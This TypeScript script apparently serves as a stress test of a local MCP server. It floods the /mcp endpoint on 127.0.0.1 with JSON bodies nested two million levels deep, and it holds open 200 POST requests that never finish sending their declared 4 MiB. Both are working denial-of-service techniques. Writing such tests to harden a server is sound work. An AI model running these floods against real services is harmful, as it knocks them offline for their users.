/**
 * A hostile client of an MCP server over HTTP run until it is killed, printing
 * `answers {json}` (the statuses it got, by count) every 250 ms. argv: the port, then the attack:
 * - `deep`: bodies of 4 MB nested 2,000,000 deep, 5 at a time, each sent again as soon as it is answered;
 * - `held`: 200 connections each sending a POST of 4 MiB less 1 KiB of its declared 4 MiB and never the rest,
 *   each opened again as soon as the server answers or closes it.
 */
import { Agent, request } from "node:http"

const port = Number(process.argv[2])
const attack = process.argv[3]
const answers: Record<string, number> = {}
const count = (status: number | string) => void (answers[status] = (answers[status] ?? 0) + 1)
setInterval(() => console.log(`answers ${JSON.stringify(answers)}`), 250)
const MiB = 1024 * 1024
const agent = new Agent({ keepAlive: true })

/** One deep body after another on one connection. */
const deep = (body: Buffer) => {
  const req = request({
    host: "127.0.0.1",
    port,
    path: "/mcp",
    method: "POST",
    agent,
    headers: { "content-type": "application/json", accept: "application/json, text/event-stream" }
  })
  req.on("response", (res) => {
    count(res.statusCode ?? 0)
    res.resume()
    res.once("end", () => deep(body))
  })
  req.on("error", () => {
    count("error")
    setTimeout(() => deep(body), 10)
  })
  req.end(body)
}

/** A POST that never finishes, opened again once it is answered or its connection closed. */
const held = () => {
  const declared = 4 * MiB
  const req = request({
    host: "127.0.0.1",
    port,
    path: "/mcp",
    method: "POST",
    headers: { "content-type": "application/json", "content-length": String(declared) }
  })
  const chunk = Buffer.alloc(64 * 1024, " ")
  let sent = 0
  let over = false
  const again = (status: number | string) => {
    if (over) return
    over = true
    count(status)
    req.destroy()
    setImmediate(held)
  }
  req.on("response", (res) => again(res.statusCode ?? 0))
  req.on("error", () => again("closed"))
  req.on("close", () => again("closed"))
  const pump = () => {
    while (!over && sent < declared - 1024) {
      const piece = chunk.subarray(0, Math.min(chunk.length, declared - 1024 - sent))
      sent += piece.length
      if (!req.write(piece)) return void req.once("drain", pump)
    }
  }
  pump()
}

if (attack === "deep") {
  const n = 2_000_000
  const body = Buffer.from(
    `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"text":` +
      "[".repeat(n) + "]".repeat(n) + "}}}"
  )
  for (let i = 0; i < 5; i++) deep(body)
} else {
  for (let i = 0; i < 200; i++) held()
}
console.log("attacking")
